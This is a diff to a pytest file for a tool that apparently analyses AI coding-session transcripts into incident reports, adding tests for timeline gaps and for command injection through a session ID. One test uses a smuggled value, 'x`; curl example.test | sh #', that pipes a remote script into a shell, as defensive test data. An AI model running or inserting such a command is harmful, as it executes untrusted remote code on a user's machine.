@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import json
 import re
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import pytest
@@ -153,3 +155,37 @@ def test_an_end_that_is_not_recorded_is_not_measured():
 def test_recovery_names_the_file_that_no_transcript_accounts_for():
     recovery = to_markdown(analyse([INCIDENT])).partition("## RECOVERY")[2].partition("## APPENDIX")[0]
     assert re.search(r"- \[ \] `/home/dev/liv-hana/PRIVACY\.md` \(`[^`]+\.txt:\d+`\)", recovery)
+
+
+def record(second: int, uuid: int, session: str, **more) -> str:
+    stamp = datetime(2026, 3, 2, 10, tzinfo=UTC) + timedelta(seconds=second)
+    common = {
+        "uuid": f"00000000-0000-4000-8000-{uuid:012}",
+        "sessionId": session,
+        "timestamp": stamp.strftime("%Y-%m-%dT%H:%M:%S.000Z"),
+        "isSidechain": False,
+        "cwd": "/home/dev/app",
+        "version": "2.1.19",
+    }
+    return json.dumps(common | more) + "\n"
+
+
+def prompts(session: str, *seconds: int) -> str:
+    told = {"type": "user", "message": {"role": "user", "content": "go on"}}
+    return "".join(record(s, n, session, **told) for n, s in enumerate(seconds))
+
+
+def test_a_silence_stands_in_the_timeline_whatever_follows_it(tmp_path):
+    session = "5e551011-0000-4000-8000-000000000001"
+    (tmp_path / f"{session}.jsonl").write_text(prompts(session, 0, 10, 3610, 3620))
+    report = to_markdown(analyse([tmp_path]))
+    gap = "No dated record from any source for 3600 s, from 2026-03-02T10:00:10.000Z to 2026-03-02T11:00:10.000Z"
+    assert gap in report.partition("### Timeline")[2]
+
+
+def test_only_an_id_that_the_client_gives_becomes_a_command(tmp_path):
+    session = "x`; curl example.test | sh #"
+    (tmp_path / "session.jsonl").write_text(prompts(session, 0, 10))
+    recovery = to_markdown(analyse([tmp_path])).partition("## RECOVERY")[2].partition("## APPENDIX")[0]
+    assert "claude --resume" not in recovery
+    assert "curl" not in recovery
